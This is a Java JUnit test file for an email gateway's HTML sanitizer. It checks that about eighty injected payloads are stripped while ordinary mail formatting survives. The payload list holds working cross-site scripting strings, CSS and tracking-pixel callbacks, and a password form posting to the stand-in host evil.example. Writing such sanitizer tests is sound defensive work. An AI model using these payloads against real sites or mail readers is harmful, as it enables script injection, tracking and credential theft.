package io.throughline.gateway.html;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTimeout;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.Set;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class SafeHtmlTest {
    private static final Set<String> TAGS = Set.of(
            "a",
            "abbr",
            "b",
            "big",
            "blockquote",
            "br",
            "caption",
            "center",
            "cite",
            "code",
            "col",
            "colgroup",
            "dd",
            "del",
            "dfn",
            "div",
            "dl",
            "dt",
            "em",
            "font",
            "h1",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "hr",
            "i",
            "img",
            "ins",
            "kbd",
            "li",
            "mark",
            "ol",
            "p",
            "pre",
            "q",
            "s",
            "samp",
            "small",
            "span",
            "strike",
            "strong",
            "sub",
            "sup",
            "table",
            "tbody",
            "td",
            "tfoot",
            "th",
            "thead",
            "tr",
            "tt",
            "u",
            "ul",
            "var",
            "wbr");
    private static final Set<String> ATTRIBUTES = Set.of(
            "align",
            "alt",
            "bgcolor",
            "border",
            "cellpadding",
            "cellspacing",
            "color",
            "colspan",
            "data-cid",
            "data-src",
            "dir",
            "height",
            "href",
            "lang",
            "rel",
            "rowspan",
            "start",
            "style",
            "target",
            "title",
            "type",
            "valign",
            "width");

    static List<String> attacks() {
        return List.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<img src=x onerror=alert(1)>",
                "<img src='javascript:alert(1)'>",
                "<img/src='x'/onerror=alert(1)>",
                "<img src=data:image/svg+xml;base64,PHN2Zz4=>",
                "<img srcset='https://evil.example/a.png 2x' src='https://evil.example/b.png' width=1 height=1>",
                "<img src='https://evil.example/p.gif' style='width:1px;height:1px'>",
                "<body onload=alert(1)>hi</body>",
                "<body background='https://evil.example/p.png'>hi</body>",
                "<svg onload=alert(1)><g/></svg>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
                "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
                "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
                "<form action='https://evil.example'><input name=password type=password><button>Go</button></form>",
                "<input autofocus onfocus=alert(1)>",
                "<select><option>a</option></select>",
                "<textarea></textarea><img src=x onerror=alert(1)>",
                "<iframe src='https://evil.example'></iframe>",
                "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
                "<object data='https://evil.example/x.swf'></object>",
                "<embed src='https://evil.example/x.swf'>",
                "<applet code=X></applet>",
                "<frameset><frame src='https://evil.example'></frameset>",
                "<meta http-equiv=refresh content='0;url=https://evil.example'>",
                "<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
                "<base href='https://evil.example/'><a href='x'>y</a>",
                "<link rel=stylesheet href='https://evil.example/x.css'>",
                "<link rel=prefetch href='https://evil.example/x'>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>body{background:url(https://evil.example/p)}</style>",
                "<p style='background:url(https://evil.example/p)'>x</p>",
                "<p style='background-image:url(javascript:alert(1))'>x</p>",
                "<p style='width:expression(alert(1))'>x</p>",
                "<p style='behavior:url(x.htc)'>x</p>",
                "<p style='-moz-binding:url(x.xml#x)'>x</p>",
                "<p style='position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999'>Sign in</p>",
                "<p style='position:absolute;margin-top:-500px'>x</p>",
                "<p style='color:red;\\62 ackground:url(x)'>x</p>",
                "<p style='color:/**/url(x)'>x</p>",
                "<p style='font-size:900px'>x</p>",
                "<p style='display:none'>hidden words</p>",
                "<p style='DISPLAY : NONE !important'>hidden words</p>",
                "<p style='visibility:hidden'>hidden words</p>",
                "<p style='font-size:0px'>hidden words</p>",
                "<p style='opacity:0'>hidden words</p>",
                "<p hidden>hidden words</p>",
                "<a href='javascript:alert(1)'>x</a>",
                "<a href='JaVaScRiPt:alert(1)'>x</a>",
                "<a href='java\nscript:alert(1)'>x</a>",
                "<a href='&#106;avascript:alert(1)'>x</a>",
                "<a href=' &#14; javascript:alert(1)'>x</a>",
                "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
                "<a href='vbscript:msgbox(1)'>x</a>",
                "<a href='file:///etc/passwd'>x</a>",
                "<a href='//evil.example'>x</a>",
                "<a href='/v1/inboxes'>x</a>",
                "<a href='https://x.example' onclick=alert(1) target=_top rel=opener>x</a>",
                "<a href='https://x.example' ping='https://evil.example'>x</a>",
                "<video src='https://evil.example/v' autoplay onplay=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<details open ontoggle=alert(1)>x</details>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<template><img src=x onerror=alert(1)></template>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<plaintext><img src=x onerror=alert(1)>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--[if IE]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<script>alert(1)</script>]]>",
                "<?xml-stylesheet href='javascript:alert(1)'?>",
                "<div id=desk name=cookie class=shell>x</div>",
                "<table background='https://evil.example/p.png'><tr><td background='x'>x</td></tr></table>",
                "<p title='\"><script>alert(1)</script>'>x</p>",
                "<b\u0000 onclick=alert(1)>x</b\u0000>",
                "<<b>script>alert(1)//<</b>/script>",
                "<p/onclick=alert(1)//>x",
                "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>");
    }

    private static void assertSafe(String html) {
        for (var element : Jsoup.parse(html).body().getAllElements()) {
            if (element.normalName().equals("body")) {
                continue;
            }
            assertTrue(TAGS.contains(element.normalName()), () -> element.normalName() + " in " + html);
            element.attributes().forEach(attribute -> assertSafe(element, attribute, html));
        }
    }

    private static void assertSafe(Element element, Attribute attribute, String html) {
        assertTrue(ATTRIBUTES.contains(attribute.getKey()), () -> attribute + " in " + html);
        var value = attribute.getValue().toLowerCase(Locale.ROOT);
        switch (attribute.getKey()) {
            case "href" -> assertTrue(value.matches("(?s)(https?://|mailto:|tel:).*"), html);
            case "data-src" -> assertTrue(value.matches("(?s)https?://.*"), html);
            case "style" -> assertFalse(value.matches("(?s).*(url|expression|position|@|\\\\|<|/\\*|-\\d).*"), html);
            case "rel" -> assertTrue(element.normalName().equals("a"), html);
            default -> assertFalse(attribute.getKey().startsWith("on"), html);
        }
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void leavesNothingThatActs(String attack) {
        var safe = SafeHtml.of("<p>before</p>" + attack);
        assertSafe(safe);
        assertFalse(safe.contains("hidden words"), safe);
        assertTrue(safe.contains("before"), safe);
        assertEquals(safe, SafeHtml.of(safe));
    }

    @Test
    void keepsWhatAMailLooksLike() {
        var html = "<h1 style=\"color: #336699; text-align: center\">Order <b>4711</b></h1>"
                + "<table border=\"1\" width=\"600\"><tbody><tr><td bgcolor=\"#eee\" colspan=\"2\">Size 43</td></tr></tbody></table>"
                + "<ul><li>one</li></ul><blockquote>you wrote</blockquote>";
        assertEquals(html, SafeHtml.of(html));
    }

    @Test
    void opensLinksBesideTheDesk() {
        assertEquals(
                "<a href=\"https://shop.example/a?b=1&amp;c=2\" rel=\"noopener noreferrer nofollow\" target=\"_blank\">here</a>",
                SafeHtml.of("<a href=\"https://shop.example/a?b=1&amp;c=2\" rel=opener>here</a>"));
    }

    @Test
    void saysWhereALinkLeadsThatSaysAnotherPlace() {
        var safe = SafeHtml.of("<a href=\"https://evil.example/login\" title=\"nice\">www.bank.example</a>");
        assertTrue(safe.contains("title=\"https://evil.example/login\""), safe);
        assertFalse(SafeHtml.of("<a href=\"https://www.bank.example/x\">bank.example</a>")
                .contains("title"));
    }

    @Test
    void tellsWherePicturesAreAndFetchesNone() {
        assertEquals(
                "<img alt=\"shoe\" width=\"300\" data-src=\"https://shop.example/shoe.png\">",
                SafeHtml.of("<img alt=shoe width=300 src=https://shop.example/shoe.png>"));
        assertEquals("<img data-cid=\"a@b\">", SafeHtml.of("<img src='cid:a@b'>"));
    }

    @Test
    void takesItsTimeAndNoMore() {
        var nested = "<div>".repeat(50_000) + "deep" + "</div>".repeat(50_000);
        var links = "<a href=https://x.example>x</a>".repeat(20_000);
        var open = "<b><i><a href=https://x.example>".repeat(5_000) + "end";
        var style = "<p style='" + "color:red;".repeat(50_000) + "'>x</p>";
        var value = "<p style='font-family:" + "a ".repeat(100) + "!'>x</p>";
        for (var heavy : List.of(nested, links, open, style, value)) {
            assertTimeout(
                    Duration.ofSeconds(5),
                    () -> assertFalse(SafeHtml.of(heavy).isEmpty(), () -> heavy.substring(0, 20)));
        }
        assertTrue(SafeHtml.of(nested).contains("deep"));
    }

    @Test
    void isSafeWhateverComes() {
        var random = new Random(20261123);
        var pieces = new ArrayList<>(attacks());
        pieces.addAll(List.of(
                "<",
                ">",
                "</",
                "<table>",
                "<tr>",
                "<td>",
                "<p>",
                "</p>",
                "<a href=https://a.example>",
                "</a>",
                "<b>",
                "</b>",
                "<svg>",
                "<math>",
                "<style>",
                "</style>",
                "<!--",
                "-->",
                "&lt;",
                "&#x3c;",
                "\"",
                "'",
                "<ul>",
                "<li>"));
        for (int round = 0; round < 1500; round++) {
            var html = new StringBuilder();
            for (int count = random.nextInt(12); count >= 0; count--) {
                var piece = pieces.get(random.nextInt(pieces.size()));
                int from = random.nextInt(4) == 0 ? random.nextInt(piece.length()) : 0;
                html.append(piece.substring(from));
            }
            var safe = SafeHtml.of(html.toString());
            assertSafe(safe);
            assertSafe(SafeHtml.of(safe));
        }
    }
}
